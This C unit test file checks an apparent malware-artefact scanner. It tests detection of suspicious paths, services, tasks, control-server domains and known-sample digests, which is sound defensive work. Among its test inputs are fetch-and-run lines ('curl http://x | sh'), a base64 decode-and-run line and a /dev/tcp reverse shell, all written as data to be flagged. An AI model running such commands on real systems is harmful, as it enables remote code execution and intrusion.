/* The entries of the shipped packs: each has something that it finds, and something
 * that looks like it and stays silent. */
#include "bytes/test.h"

#include "artefact/match.h"
#include "bytes/encoding.h"
#include "content/shipped.h"
#include "crypto/digest.h"

#include <string.h>

static struct arena *arena;
static struct artefact_set set;

static int read_packs(void **state)
{
	struct artefact_fault fault;
	struct bytes text;

	(void)state;
	assert_int_equal(arena_new(16 << 20, &arena), RQ_OK);
	set = (struct artefact_set){0};
	for (size_t i = 0; i < shipped_n_packs(); i++) {
		assert_int_equal(shipped_pack_text(i, arena, &text), RQ_OK);
		if (artefact_pack_read(arena, text, &set, &fault) != RQ_OK)
			fail_msg("%s:%u: %s", shipped_pack_name(i),
				 (unsigned)fault.line, fault.what);
	}
	return 0;
}

static int forget_packs(void **state)
{
	(void)state;
	arena_free(arena);
	return 0;
}

/* "id id" of the hits */
static const char *names_of(const struct artefact_hits *hits)
{
	static char text[512];

	text[0] = 0;
	for (size_t i = 0; i < hits->n; i++) {
		struct bytes id = set.entries[hits->items[i].entry].id;

		snprintf(text + strlen(text), sizeof text - strlen(text), "%s%.*s",
			 i > 0 ? " " : "", (int)id.n, (const char *)id.at);
	}
	return text;
}

static const char *found_in(const char *path, const char *content, bool is_read)
{
	struct artefact_file file = {.path = bytes_of(path),
				     .is_read = is_read,
				     .size = strlen(content),
				     .data = bytes_of(content)};
	struct artefact_hits hits = {0};
	uint8_t sha256[32];
	bool has_sha256 = false;

	assert_int_equal(
	    artefact_match_file(&set, &file, arena, sha256, &has_sha256, &hits), RQ_OK);
	return names_of(&hits);
}

static void files_are_found_where_they_are_wrong(void **state)
{
	static const struct {
		const char *path, *content, *found;
	} cases[] = {
	    {"C:\\Windows\\apppatch\\netapi32.dll", "x", "netapi32_in_apppatch"},
	    {"/mnt/c/Windows/AppPatch/netapi32.dll", "x", "netapi32_in_apppatch"},
	    {"/mnt/c/Windows/AppPatch/AppPatch64/netapi32.dll", "x",
	     "netapi32_in_apppatch"},
	    {"C:\\Windows\\System32\\netapi32.dll", "MZ", ""},
	    {"C:\\Windows\\SysWOW64\\netapi32.dll", "MZ", ""},
	    {"C:\\Windows\\WinSxS\\amd64_x\\netapi32.dll", "MZ", ""},
	    {"C:\\Windows\\apppatch\\sysmain.sdb", "x", ""},
	    {"C:\\Program Files (x86)\\VGCA\\Authentication\\SAC\\x32\\eToken.exe",
	     "MZ", "other_etoken"},
	    {"/mnt/Program Files/VGCA/Authentication/SAC/x64/etoken.EXE", "MZ",
	     "other_etoken"},
	    {"C:\\Program Files\\SafeNet\\eToken.exe", "MZ", ""},
	    {"C:\\Users\\an\\AppData\\Local\\Temp\\Wmedia\\8812.tmp", "MZ\x90",
	     "program_in_wmedia"},
	    {"C:\\Users\\an\\AppData\\Local\\Temp\\Wmedia\\8812.tmp", "text", ""},
	    {"C:\\Users\\an\\AppData\\Local\\Temp\\8812.tmp", "MZ", ""},
	    {"C:\\Users\\an\\abc\\7z.cab", "MSCF", "dropped_cabinet"},
	    {"C:\\Users\\an\\abc\\7z.cab", "7z", ""},
	    {"C:\\Windows\\System32\\Tasks\\Windows\\Update", "x", "task_file"},
	    {"C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\WindowsUpdate\\Update",
	     "x", ""},
	    {"/home/an/Downloads/gca01-client-v2-x64-8.3.msi", "x",
	     "installer_of_that_version"},
	    {"/home/an/Downloads/gca01-client-v2-x64-8.4.msi", "x", ""},
	    {"/dev/shm/a/b",
	     "\x7f"
	     "ELF",
	     "program_in_shared_memory"},
	    {"/dev/shm/a", "text", ""},
	    {"/tmp/.x/run",
	     "\x7f"
	     "ELF",
	     "hidden_program_in_tmp"},
	    {"/tmp/x/run",
	     "\x7f"
	     "ELF",
	     ""},
	    {"C:\\Users\\an\\Music\\svchost.exe", "MZ", "system_name_in_wrong_folder"},
	    {"C:\\Windows\\System32\\svchost.exe", "MZ", ""},
	    {"C:\\Users\\an\\AppData\\Roaming\\Microsoft\\Windows\\Start "
	     "Menu\\Programs\\Startup\\x.VBS",
	     "x", "script_in_startup_folder"},
	    {"C:\\Users\\an\\AppData\\Roaming\\Microsoft\\Windows\\Start "
	     "Menu\\Programs\\Startup\\desktop.ini",
	     "x", ""},
	    {"C:\\Users\\an\\Documents\\x.vbs", "x", ""},
	    {"/mnt/c/Tools/KMSAuto Net.exe", "MZ", "activator_tool"},
	    {"/mnt/c/Tools/KMS.exe", "MZ", ""},
	    {"C:\\Users\\an\\Downloads\\abc-keygen.exe", "MZ", "cracked_tool"},
	    {"C:\\Program Files\\Git\\usr\\bin\\ssh-keygen.exe", "MZ", ""},
	    {"C:\\Program Files\\AnyDesk\\AnyDesk.exe", "MZ", "remote_control"},
	    {"C:\\Program Files\\AnyDesk\\readme.txt", "x", ""},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		const char *found = found_in(cases[i].path, cases[i].content, true);

		if (strcmp(found, cases[i].found) != 0)
			fail_msg("%s: %s", cases[i].path, found);
	}
}

/* The name alone says it: nobody needs to read the file. */
static void a_file_that_cannot_be_read_is_found_by_its_name(void **state)
{
	(void)state;
	assert_string_equal(found_in("C:\\Windows\\apppatch\\netapi32.dll", "", false),
			    "netapi32_in_apppatch");
	assert_string_equal(
	    found_in("C:\\Users\\a\\AppData\\Local\\Temp\\Wmedia\\1.tmp", "", false),
	    "");
	assert_string_equal(
	    found_in("C:\\Program Files\\VGCA\\Authentication\\SAC\\x32\\eToken.exe",
		     "", false),
	    "other_etoken");
}

static const char *found_as(enum artefact_kind kind, const char *name,
			    const char *command, const char *schedule, int64_t day)
{
	struct artefact_fact fact = {.kind = kind,
				     .name = bytes_of(name),
				     .command = bytes_of(command),
				     .schedule = bytes_of(schedule),
				     .has_day = day > 0,
				     .day = day};
	struct artefact_hits hits = {0};

	assert_int_equal(artefact_match_fact(&set, &fact, arena, &hits), RQ_OK);
	return names_of(&hits);
}

static void start_points_are_found_by_what_they_run(void **state)
{
	static const struct {
		enum artefact_kind kind;
		const char *name, *command, *schedule;
		int64_t day;
		const char *found;
	} cases[] = {
	    {ARTEFACT_TASK, "\\Windows\\Update", "x", "HOURLY", 0, "task"},
	    {ARTEFACT_TASK, "Windows\\Update", "x", "hourly", 0, "task"},
	    {ARTEFACT_TASK, "\\Windows\\Update", "x", "daily", 0, ""},
	    {ARTEFACT_TASK, "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start", "x",
	     "hourly", 0, ""},
	    {ARTEFACT_SERVICE, "abc", "C:\\Windows\\AppPatch\\netapi32.dll", "", 0,
	     "service_in_apppatch"},
	    {ARTEFACT_SERVICE, "abc", "C:\\Windows\\System32\\netapi32.dll", "", 0, ""},
	    {ARTEFACT_SERVICE, "NetBios Messager Register", "x", "", 0, "service_name"},
	    {ARTEFACT_SERVICE, "NetBios Messenger Register", "x", "", 0, ""},
	    {ARTEFACT_DNS, "VGCA.homeunix.org.", "", "", 0, "control_server"},
	    {ARTEFACT_DNS, "cdn.office365.blogdns.com", "", "", 0, "control_server"},
	    {ARTEFACT_DNS, "office365.com", "", "", 0, ""},
	    {ARTEFACT_DNS, "coms.documentmeda.com", "", "", 0, "family_server"},
	    {ARTEFACT_DNS, "chickenkiller.com", "", "", 0, ""},
	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 18466, "exposed_install"},
	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 18465, ""},
	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 18506, ""},
	    {ARTEFACT_INSTALLED, "gca01-client 8.3", "", "", 0, ""},
	    {ARTEFACT_PERSISTENCE, "ld.so.preload", "/usr/lib/x.so", "", 0,
	     "preloaded_library"},
	    {ARTEFACT_PERSISTENCE, "a.conf", "/usr/lib/x.so", "", 0, ""},
	    {ARTEFACT_TASK, "an", "curl http://x | sh", "hourly", 0,
	     "task_fetches_and_runs"},
	    {ARTEFACT_TASK, "an", "wget -qO- http://x |bash -s", "hourly", 0,
	     "task_fetches_and_runs"},
	    {ARTEFACT_TASK, "an", "curl http://x | sha256sum", "hourly", 0, ""},
	    {ARTEFACT_PERSISTENCE, ".bashrc", "curl -s x | bash", "", 0,
	     "start_fetches_and_runs"},
	    {ARTEFACT_PERSISTENCE, ".bashrc", "alias w='curl wttr.in'", "", 0, ""},
	    {ARTEFACT_PERSISTENCE, "rc.local", "echo eA== | base64 -d | sh", "", 0,
	     "start_decodes_and_runs"},
	    {ARTEFACT_PERSISTENCE, "rc.local", "echo eA== | base64 -d > key", "", 0,
	     ""},
	    {ARTEFACT_PERSISTENCE, "rc.local", "bash -i >& /dev/tcp/1.2.3.4/5", "", 0,
	     "start_opens_a_shell"},
	    {ARTEFACT_PERSISTENCE, "rc.local", "echo > /dev/tty1", "", 0, ""},
	    {ARTEFACT_SERVICE, "a", "/tmp/x --daemon", "", 0,
	     "service_from_temporary_folder"},
	    {ARTEFACT_SERVICE, "a", "/usr/bin/x /tmp/y", "", 0, ""},
	    {ARTEFACT_TASK, "a", "/dev/shm/x", "hourly", 0,
	     "task_from_temporary_folder"},
	    {ARTEFACT_TASK, "a", "find /tmp -delete", "hourly", 0, ""},
	    {ARTEFACT_PERSISTENCE, "a", "/home/an/.x/run", "logon", 0,
	     "hidden_autostart"},
	    {ARTEFACT_PERSISTENCE, "a", "/usr/bin/run", "logon", 0, ""},
	    {ARTEFACT_TASK, "\\AutoKMS", "x", "daily", 0, "activator_task"},
	    {ARTEFACT_TASK, "\\AutoBackup", "x", "daily", 0, ""},
	    {ARTEFACT_INSTALLED, "anydesk", "", "", 0, "remote_control_package"},
	    {ARTEFACT_INSTALLED, "anything", "", "", 0, ""},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		const char *found =
		    found_as(cases[i].kind, cases[i].name, cases[i].command,
			     cases[i].schedule, cases[i].day);

		if (strcmp(found, cases[i].found) != 0)
			fail_msg("%s %s: %s", cases[i].name, cases[i].command, found);
	}
}

/* The five published files; MD5, SHA-1 and SHA-256 of each. */
static const struct {
	const char *entry, *digests[3];
} published[] = {
    {"known_installer",
     {"f9e56f335b7f3c56b8b00cb09c55c6e6", "5c77a18880cf58df9fba102dd8267c3f369df449",
      "b0fd1ff7f5d45be89fffc04937f352754c6055e1f4ca26a9257169ce168569ef"}},
    {"known_installer",
     {"628e6068c4cb1be86b489574452fc9ab", "b0e4e9bb6ef8aa7a9fcb9c9e571d8162b1b2443a",
      "6be34df727fcb79123e4e8f472ad24b698d83395fb17d4db019e9976f485cd83"}},
    {"known_dropper",
     {"830dd354a31ef40856978616f35bd6b7", "9522f369ac109b03e6c16511d49d1c5b42e12a44",
      "97a5fe1d2174e9d34cee8c1d6751bf01f99d8f40b1ae0bce205b8f2f0483225c"}},
    {"known_library",
     {"c11e25278417f985cc968c1e361a0fb0", "989334094ec5ba8e0e8f2238cdf34d5c57c283f2",
      "f659b269fbe4128588f7a2fa4d6022cc74e508d28eee05c5aff26cc23b7bd1a5"}},
    {"known_plugin",
     {"c29538230a3e388ce5a350358d5175aa", "5dfc07bb6034b4fda217d96441fb86f5d43b6c62",
      "c42000f2f6526c782757aa43246b4c1a12d366610721df6b6112305064d48a32"}},
};

static struct artefact_entry *entry_called(const char *id)
{
	for (size_t i = 0; i < set.n; i++)
		if (bytes_equal_text(set.entries[i].id, id))
			return &set.entries[i];
	fail_msg("no entry %s", id);
	return NULL;
}

static struct artefact_digest *find_digest(struct artefact_entry *entry,
					   enum digest_kind kind, const char *hex)
{
	for (size_t i = 0; i < entry->digests.n; i++) {
		struct artefact_digest *digest = &entry->digests.items[i];
		struct buffer text = {0};
		bool is_it;

		encode_hex(&text,
			   (struct bytes){digest->bytes, digest_size(digest->kind)});
		is_it =
		    digest->kind == kind && bytes_equal_text(buffer_bytes(&text), hex);
		buffer_free(&text);
		if (is_it)
			return digest;
	}
	return NULL;
}

/* A program or an installer of 60 KB with a mark of its own. */
static struct bytes a_file(bool is_installer, uint8_t mark)
{
	static uint8_t data[60 << 10];

	memset(data, mark, sizeof data);
	memcpy(data, is_installer ? "\xd0\xcf\x11\xe0" : "MZ\x90", 4);
	return (struct bytes){data, sizeof data};
}

static const char *found_of(const char *path, struct bytes data)
{
	struct artefact_file file = {
	    .path = bytes_of(path), .is_read = true, .size = data.n, .data = data};
	struct artefact_hits hits = {0};
	uint8_t sha256[32];
	bool has_sha256 = false;

	assert_int_equal(
	    artefact_match_file(&set, &file, arena, sha256, &has_sha256, &hits), RQ_OK);
	return names_of(&hits);
}

/* Nobody needs the malware: each published digest, which has to be there, is changed to
 * that of a harmless file, which then has to be found by it alone. */
static void each_of_the_fifteen_digests_finds_its_file(void **state)
{
	uint8_t mark = 0;

	(void)state;
	for (size_t i = 0; i < sizeof published / sizeof published[0]; i++)
		for (int kind = DIGEST_MD5; kind <= DIGEST_SHA256; kind++) {
			struct artefact_entry *entry = entry_called(published[i].entry);
			struct artefact_digest *digest = find_digest(
			    entry, (enum digest_kind)kind, published[i].digests[kind]);
			struct bytes data = a_file(
			    strcmp(published[i].entry, "known_installer") == 0, ++mark);

			if (digest == NULL)
				fail_msg("%s is not listed",
					 published[i].digests[kind]);
			assert_string_equal(found_of("/home/an/Downloads/x", data), "");
			assert_int_equal(
			    digest_of((enum digest_kind)kind, data, digest->bytes),
			    RQ_OK);
			assert_string_equal(found_of("/home/an/Downloads/x", data),
					    published[i].entry);
			assert_string_equal(
			    found_of("C:\\Users\\An\\Downloads\\x.exe", data),
			    published[i].entry);
		}
}

/* The place of a known file says nothing more. */
static void what_a_digest_tells_is_not_told_by_the_name_again(void **state)
{
	static const struct {
		const char *entry, *by_name, *path;
		bool is_installer;
	} cases[] = {
	    {"known_dropper", "other_etoken",
	     "C:\\Program Files\\VGCA\\Authentication\\SAC\\x32\\eToken.exe", false},
	    {"known_library", "netapi32_in_apppatch",
	     "C:\\Windows\\apppatch\\netapi32.dll", false},
	    {"known_library", "program_in_wmedia",
	     "C:\\Users\\an\\AppData\\Local\\Temp\\Wmedia\\8812.tmp", false},
	    {"known_installer", "installer_of_that_version",
	     "C:\\Users\\an\\Downloads\\gca01-client-v2-x64-8.3.msi", true},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct artefact_digests *lists[] = {
		    &entry_called(cases[i].entry)->digests,
		    &entry_called(cases[i].by_name)->not_digests};
		struct bytes data = a_file(cases[i].is_installer, (uint8_t)(100 + i));

		assert_string_equal(found_of(cases[i].path, data), cases[i].by_name);
		for (size_t k = 0; k < 2; k++)
			for (size_t d = 0; d < lists[k]->n; d++)
				if (lists[k]->items[d].kind == DIGEST_SHA256)
					assert_int_equal(
					    digest_of(DIGEST_SHA256, data,
						      lists[k]->items[d].bytes),
					    RQ_OK);
		assert_string_equal(found_of(cases[i].path, data), cases[i].entry);
	}
}

static void a_listed_digest_tells_the_known_file_from_another(void **state)
{
	static const char text[] =
	    "pack: t\ndate: 2026-01-01\n[k]\nfile: /x\nsha256: "
	    "61bdd8d9d34e14b9c5e8a64e66b9a3e7"
	    "c0d2e8e2cb2f8a4c4c39d7a0a8d1a9f0\n"
	    "severity: low\ndescription.vi: a\ndescription.en: a\nadvice.vi: a\n"
	    "advice.en: a\n";
	struct artefact_set own = {0};
	struct artefact_fault fault;
	struct artefact_hits hits = {0};
	struct artefact_file file = {.path = BYTES_LITERAL("/x"),
				     .is_read = true,
				     .data = BYTES_LITERAL("known")};
	uint8_t sha256[32];
	bool has_sha256 = false;

	(void)state;
	assert_int_equal(artefact_pack_read(arena, bytes_of(text), &own, &fault),
			 RQ_OK);
	assert_int_equal(
	    artefact_match_file(&own, &file, arena, sha256, &has_sha256, &hits), RQ_OK);
	assert_true(has_sha256);
	assert_int_equal(hits.n, 0);
	memcpy(own.entries[0].digests.items[0].bytes, sha256, 32);
	assert_int_equal(
	    artefact_match_file(&own, &file, arena, sha256, &has_sha256, &hits), RQ_OK);
	assert_int_equal(hits.n, 1);
}

#define CASE(test) cmocka_unit_test_setup_teardown(test, read_packs, forget_packs)

TEST_MAIN(CASE(files_are_found_where_they_are_wrong),
	  CASE(a_file_that_cannot_be_read_is_found_by_its_name),
	  CASE(start_points_are_found_by_what_they_run),
	  CASE(each_of_the_fifteen_digests_finds_its_file),
	  CASE(what_a_digest_tells_is_not_told_by_the_name_again),
	  CASE(a_listed_digest_tells_the_known_file_from_another))
